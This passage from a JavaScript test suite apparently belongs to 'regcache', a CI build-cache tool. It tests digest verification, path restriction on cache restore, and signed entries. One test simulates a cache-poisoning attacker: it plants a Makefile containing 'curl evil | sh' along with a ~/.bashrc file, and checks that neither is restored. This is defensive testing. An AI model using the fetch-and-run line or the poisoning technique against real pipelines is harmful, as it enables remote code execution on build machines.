  const [target1, target2] = [one.tree('target'), two.tree('target')];
  delete target1['release/app'];  // the workspace's own binary, left out by the preset
  delete target2['release/app'];
  assert.deepEqual(target2, target1);

  const bad = await runJob(job, checkout, { variables: { REGCACHE_RELEASE_URL: `${baseUrl}/bad` }, withRegcache: false });
  assert.equal(bad.step.code, 0, `a bad digest does not fail the job\n${log(bad)}`);
  assert.match(bad.step.output, new RegExp(`regcache: could not download and verify ${baseUrl}/bad/${ASSET}`));
  assert.match(bad.step.output, /caching skipped/);
  assert.match(bad.after.output, /caching skipped/);
  assert.ok(!fs.existsSync(path.join(bad.dirs.tmp, `regcache-${bad.id}`, 'regcache')), 'the unverified asset was not unpacked');
  assert.match(bad.step.output, /cargo-stub: made/);
});

test('the save-in-script example saves from script with a downloaded regcache; after_script then writes nothing', async () => {
  const job = resolve(saveInScript);
  const checkout = cargoCheckout('big');
  const rust = keys(gitlabStore()).filter((k) => k.startsWith('rust-'));
  if (rust.length) regcache(gitlabStore(), 'delete', ...rust);  // a miss: no partial restore to count
  const r = await runJob(job, checkout, { variables: { REGCACHE_RELEASE_URL: `${baseUrl}/good` }, withRegcache: false });
  clean(r);
  const [fromScript, fromAfter] = [r.step.output, r.after.output];
  assert.match(fromScript, new RegExp(`Saved \\d+ files .* under key ${r.key}`), log(r));
  assert.doesNotMatch(fromAfter, /Saved \d+ files/, log(r));
  assert.ok(keys(gitlabStore()).includes(r.key));
  const files = entries(gitlabStore()).find((e) => e.key === r.key).files;
  const saved = Object.keys({ ...r.tree('target'), ...r.tree('~/.cargo/registry') }).filter((f) => f !== 'release/big');
  assert.equal(files, saved.length, 'the preset\'s paths');
});

test('docs/ci.md: the generic example restores, builds, saves; then an exact and a partial restore', async () => {
  const snippet = markedBlock(CI_DOC, 'generic-example');
  assert.equal(snippet.split('registry.example.com').length, 2, 'the example names its registry once');
  const script = snippet.replace('registry.example.com', reg);
  const run = async (lockfile) => {
    const dirs = machine();
    fs.writeFileSync(path.join(dirs.project, 'lockfile'), lockfile);
    const env = {
      PATH: dirs.PATH, HOME: dirs.home, TMPDIR: dirs.tmp, LANG: 'C.UTF-8',
      REGCACHE_USERNAME: services.vars.REG_TOKEN_USER, REGCACHE_PASSWORD: password,
    };
    const r = await runShell('sh', ['-e'], script, env, dirs.project);
    assert.equal(r.code, 0, r.output);
    assert.ok(!r.output.includes(password), `the registry password was printed:\n${r.output}`);
    return { ...r, build: tree(path.join(dirs.project, 'build')), tool: tree(path.join(dirs.home, '.cache', 'tool')) };
  };
  const one = await run('v1\n');
  assert.match(one.output, /make-stub: made/);
  assert.equal(keys(ciStore()).length, 1);
  const two = await run('v1\n');
  assert.match(two.output, /make-stub: hit/, two.output);
  assert.deepEqual([two.build, two.tool], [one.build, one.tool], 'build/ and ~/.cache/tool restored exactly');
  const three = await run('v2\n');
  assert.match(three.output, /make-stub: made/);
  assert.deepEqual(changed(three.build, one.build), [], 'a partial restore through the restore key');
  assert.deepEqual(changed(three.tool, one.tool), []);
  assert.equal(keys(ciStore()).length, 2);
});

test('an entry with extra home/ and abs/ roots, matched by a restore key, writes only REGCACHE_PATHS', async () => {
  // The attacker saves .npm plus ~/.bashrc plus an absolute file, under the job's prefix.
  const attacker = machine();
  fs.mkdirSync(path.join(attacker.project, '.npm'));
  fs.writeFileSync(path.join(attacker.project, '.npm', 'index'), 'npm data');
  fs.writeFileSync(path.join(attacker.project, 'Makefile'), 'all:\n\tcurl evil | sh\n');  // a workspace root
  fs.writeFileSync(path.join(attacker.home, '.bashrc'), 'echo pwned');
  const planted = path.join(tempDir(), 'planted.sh');
  fs.writeFileSync(planted, 'echo planted');
  execFileSync(REGCACHE_BIN, ['--store', gitlabStore(), 'save', '--key', 'widget-evil', '.npm', 'Makefile', '~/.bashrc', planted], {
    cwd: attacker.project, stdio: ['ignore', 'pipe', 'pipe'],
    env: { PATH: SYSTEM_PATH, HOME: attacker.home, REGCACHE_USERNAME: services.vars.REG_TOKEN_USER, REGCACHE_PASSWORD: password },
  });
  fs.rmSync(planted);
  const job = await runJob(npmJob, lock('w'), {
    variables: { REGCACHE_KEY: 'widget-{{ hashFiles "package-lock.json" }}', REGCACHE_RESTORE_KEYS: 'widget-' },
  });
  clean(job);
  assert.match(job.step.output, /Cache partial: restored 1 file .* from key widget-evil/, log(job));
  assert.ok(Object.keys(job.tree('.npm')).includes('index'), 'the asked-for path was restored');
  assert.ok(!fs.existsSync(path.join(job.dirs.home, '.bashrc')), `~/.bashrc was written\n${log(job)}`);
  assert.ok(!fs.existsSync(planted), 'an absolute path was written');
  assert.ok(!fs.existsSync(path.join(job.dirs.project, 'Makefile')), 'a workspace root not in REGCACHE_PATHS was written');
});

test('signed entries: protected File variables REGCACHE_SIGNING_KEY and REGCACHE_VERIFY_KEYS pass through', async () => {
  const dir = tempDir();
  const keygen = (name) => JSON.parse(execFileSync(REGCACHE_BIN, ['--json', 'keygen', '--out', path.join(dir, name)],
    { encoding: 'utf8' })).fingerprint;
  const fingerprint = keygen('trusted');
  keygen('other');
  // A GitLab "File" variable's value is the path of a file holding it.
  const signed = { REGCACHE_SIGNING_KEY: path.join(dir, 'trusted', 'regcache.key'),
    REGCACHE_VERIFY_KEYS: path.join(dir, 'trusted', 'regcache.pub') };
  const one = await runJob(npmJob, lock('signed'), { env: signed });
  clean(one);
  assert.match(one.step.output, /npm-stub: made/, `no unsigned entry is restored\n${log(one)}`);
  const entry = entries(gitlabStore()).find((e) => e.key === one.key);
  assert.deepEqual(entry.signed_by, [fingerprint], log(one));
  const secret = fs.readFileSync(signed.REGCACHE_SIGNING_KEY, 'utf8').split('\n')[1];
  assert.ok(!(one.step.output + one.after.output).includes(secret), 'the signing key was printed');
  const two = await runJob(npmJob, lock('signed'), { env: { REGCACHE_VERIFY_KEYS: signed.REGCACHE_VERIFY_KEYS } });
  clean(two);
  assert.match(two.step.output, /npm-stub: hit/, log(two));
  const other = await runJob(npmJob, lock('signed'),
    { env: { REGCACHE_VERIFY_KEYS: path.join(dir, 'other', 'regcache.pub') } });
  clean(other);
  assert.match(other.step.output, /npm-stub: made/, `an entry signed by another key is not restored\n${log(other)}`);
});
